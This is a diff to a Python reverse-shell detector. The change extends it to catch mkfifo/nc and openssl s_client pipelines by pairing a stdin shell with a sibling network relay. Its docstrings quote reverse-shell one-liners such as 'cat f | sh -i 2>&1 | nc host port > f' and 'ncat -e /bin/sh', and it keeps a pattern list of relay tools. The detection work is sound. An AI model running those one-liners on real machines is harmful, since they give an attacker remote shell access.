@@ -11,16 +11,20 @@ The socat/ncat shapes that put a pty or socketpair between the socket and the
 shell (``socat exec:'bash -li',pty tcp:host:port``, ``ncat -e /bin/sh``) leave
 no socket on the shell's stdio; they are caught by their shape: a shell
 started by a relay tool that holds a network connection and was told to
-execute it.
+execute it. So is the most common one-liner, which keeps the socket out of
+the shell entirely: ``rm f; mkfifo f; cat f | sh -i 2>&1 | nc host port > f``
+(or ``openssl s_client -connect``): a shell reading its stdin next to a
+relay with a peer, both children of one parent and started together.
 """
 
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
 
 from collectors.events import ProcessInfo, RuntimeEvent
 from detectors.base import Detection, Detector, is_interpreter, is_shell, network_action, process_names
+from detectors.tools import shell_mode
 
 TYPE = "Execution:Runtime/ReverseShell"
 
@@ -28,6 +32,9 @@ TYPE = "Execution:Runtime/ReverseShell"
 AWK = re.compile(r"^[gmn]?awk$")
 # Relay tools that can run a program with its stdio on their connection, and the options that make them do it.
 RELAYS = re.compile(r"^(?:socat|ncat|nc|netcat|nc\.traditional|nc\.openbsd|telnet)$")  # busybox nc: comm is "nc"
+PORT = re.compile(r"^\d{1,5}$")
+# the processes of one typed pipeline start within milliseconds; slack for a loaded machine
+PIPELINE_WINDOW = 3.0
 RELAY_EXEC = re.compile(r"(?:^|\s)(?:-e|-c|--exec|--sh-exec|--lua-exec)(?:\s|=|$)|\b(?:exec|system):", re.I)
 
 
@@ -71,23 +78,61 @@ class ReverseShellDetector(Detector):
         )
 
     def _relayed(self, p: ProcessInfo, event: RuntimeEvent) -> Iterable[Detection]:
-        if not is_shell(p):
-            return ()
-        parent = self.ctx.parent(p)
-        if parent is None or not any(RELAYS.match(n) for n in process_names(parent)):
-            return ()
-        if not RELAY_EXEC.search(parent.command_line or ""):
-            return ()
-        return (
-            Detection(
-                TYPE,
-                p,
-                context={"relayProcess": parent.name, "relayCommandLine": parent.command_line},
-                key=(parent.command_line,),
-                facts={"remoteIp": "(through " + (parent.name or "a relay") + ")", "remotePort": ""},
-                time=event.time,
-            ),
+        if is_shell(p):
+            parent = self.ctx.parent(p)
+            if parent is not None and is_relay(parent) and RELAY_EXEC.search(parent.command_line or ""):
+                return (self._through(p, parent, event),)
+            if shell_mode(p) == "stdin":
+                relay = self._sibling(p, is_connecting_relay)
+                if relay is not None:
+                    return (self._through(p, relay, event),)
+        elif is_connecting_relay(p):
+            shell = self._sibling(p, lambda s: is_shell(s) and shell_mode(s) == "stdin")
+            if shell is not None:
+                return (self._through(shell, p, event),)
+        return ()
+
+    def _sibling(self, p: ProcessInfo, want: Callable[[ProcessInfo], bool]) -> ProcessInfo | None:
+        """A live process of the same pipeline: same parent, started within a few seconds of ``p``."""
+        if p.parent_uuid is None:
+            return None
+        for other in self.ctx.table.live():
+            if (
+                other.parent_uuid == p.parent_uuid
+                and other.uuid != p.uuid
+                and other.exited_at is None
+                and abs(other.start_time - p.start_time) <= PIPELINE_WINDOW
+                and want(other)
+            ):
+                return other
+        return None
+
+    @staticmethod
+    def _through(shell: ProcessInfo, relay: ProcessInfo, event: RuntimeEvent) -> Detection:
+        return Detection(
+            TYPE,
+            shell,
+            context={"relayProcess": relay.name, "relayCommandLine": relay.command_line},
+            key=(relay.command_line,),
+            facts={"remoteIp": "(through " + (relay.name or "a relay") + ")", "remotePort": ""},
+            time=event.time,
         )
+
+
+def is_relay(info: ProcessInfo) -> bool:
+    return any(RELAYS.match(n) for n in process_names(info))
+
+
+def is_connecting_relay(info: ProcessInfo) -> bool:
+    """A relay in a pipeline that carries a shell's input and output over the network:
+    `cat f | sh -i 2>&1 | nc host port > f`, `... | openssl s_client -connect host:port > f`.
+    Port checks (`nc -z`) and relays without a peer are not."""
+    args = (info.command_line or "").split()[1:]
+    if any(n == "openssl" for n in process_names(info)):
+        return "s_client" in args
+    if not is_relay(info) or any(a in ("-z", "-h", "--help", "-V", "--version") for a in args):
+        return False
+    return any(PORT.match(a) for a in args) or any(":" in a for a in args)
 
 
 DETECTORS = (ReverseShellDetector,)
